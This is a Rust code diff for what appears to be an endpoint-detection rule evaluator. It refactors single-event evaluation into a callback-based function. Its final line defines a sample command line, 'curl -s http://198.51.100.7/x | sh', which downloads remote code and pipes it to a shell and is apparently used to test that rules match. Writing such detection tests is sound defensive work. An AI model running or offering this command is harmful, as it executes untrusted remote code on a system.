@@ -9,7 +9,7 @@ use contentcheck_interpreter::{
 };
 use contentcheck_sensor::{
     Advice, Authority, BootId, Ceilings, Claim, Config, Content, Digest, Directory, Disk, DiskError, Distrust, Ended,
-    Place, Platform, Policy, Purpose, Reader, Rung, Sequence, Store,
+    Place, Platform, Policy, Purpose, Reader, Rung, Sequence, Store, View,
 };
 
 include!("../../../../corpus/images/first/manifest.rs");
@@ -640,15 +640,24 @@ pub(crate) fn evaluate(reader: &mut Reader, events: usize) -> usize {
 
 /// Evaluates an event; the rules that match.
 pub(crate) fn evaluate_one(reader: &mut Reader, command_line: &str, budget: u64) -> Option<Vec<String>> {
+    let mut found = Vec::new();
+    evaluate_by(&mut reader.view(), command_line, budget, |title| found.push(title.to_owned()))?;
+    Some(found)
+}
+
+/// Evaluates an event; `each` is given the title of each rule that matches.
+pub(crate) fn evaluate_by(
+    view: &mut View<'_>,
+    command_line: &str,
+    budget: u64,
+    mut each: impl FnMut(&str),
+) -> Option<()> {
     let values =
         [Value::Int(1), Value::from("/bin/bash"), Value::from(command_line), Value::Absent, Value::Split(b"bash\0", 0)];
     let header = [Value::from("host")];
-    let mut view = reader.view();
     let number = *view.templates_named("edr.process_start").first()?;
-    let mut found = Vec::new();
     let event = Event { inputs: &values, header: &header, others: &[] };
-    view.evaluate(number, event, budget, |rule| found.push(rule.title.to_string())).ok()?;
-    Some(found)
+    view.evaluate(number, event, budget, |rule| each(rule.title)).ok().map(drop)
 }
 
 pub(crate) const MATCHING: &str = "bash -c curl -s http://198.51.100.7/x | sh";
